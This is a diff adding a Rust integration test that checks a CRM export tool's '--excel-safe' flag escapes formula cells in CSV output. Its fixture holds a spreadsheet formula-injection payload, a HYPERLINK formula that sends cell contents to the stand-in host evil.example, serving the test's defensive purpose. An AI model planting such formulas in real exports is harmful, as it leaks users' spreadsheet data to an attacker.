@@ -232,3 +232,43 @@ async fn an_export_imports_as_is_into_another_account() {
             .all(|r| !r["Id"].is_empty() && r["Status"] == "created")
     );
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn excel_safe_prefixes_formula_cells_of_the_export() {
+    let sim = simulator(fast_sim(PagingMode::ZeroBasedPage)).await;
+    let lead = demo_lead_id(5);
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    sim.sim.add_activity(ActivityItem {
+        related_prospect_id: lead.clone(),
+        activity_event: 201,
+        activity_note: Some(formula.into()),
+        activity_owner_email: None,
+        activity_date_time: Some("2024-05-02 10:00:00".into()),
+        fields: [("mx_Custom_1", "-5"), ("mx_Custom_2", "@SUM(A1)")]
+            .map(|(name, value)| FieldValue {
+                schema_name: name.into(),
+                value: value.into(),
+            })
+            .to_vec(),
+    });
+    let dir = tempfile::tempdir().expect("dir");
+    let url = sim.base_url();
+    for (flag, note, sum) in [
+        (None, formula.to_string(), "@SUM(A1)"),
+        (Some("--excel-safe"), format!("'{formula}"), "'@SUM(A1)"),
+    ] {
+        let mut args = vec![
+            "export", "--leads", &lead, "--event", "201", "--out", "out.csv", "--host", &url,
+            "--rate", RATE,
+        ];
+        args.extend(flag);
+        let out = run_cli(dir.path(), &args, &[]).await;
+        assert_eq!(out.status.code(), Some(0), "{flag:?}: {}", stderr(&out));
+        let rows = read_csv(&dir.path().join("out.csv"));
+        assert_eq!(rows.len(), 1, "{flag:?}: {rows:?}");
+        assert_eq!(rows[0]["ActivityNote"], note, "{flag:?}");
+        assert_eq!(rows[0]["mx_Custom_2"], sum, "{flag:?}");
+        // A plain number stays a number.
+        assert_eq!(rows[0]["mx_Custom_1"], "-5", "{flag:?}");
+    }
+}
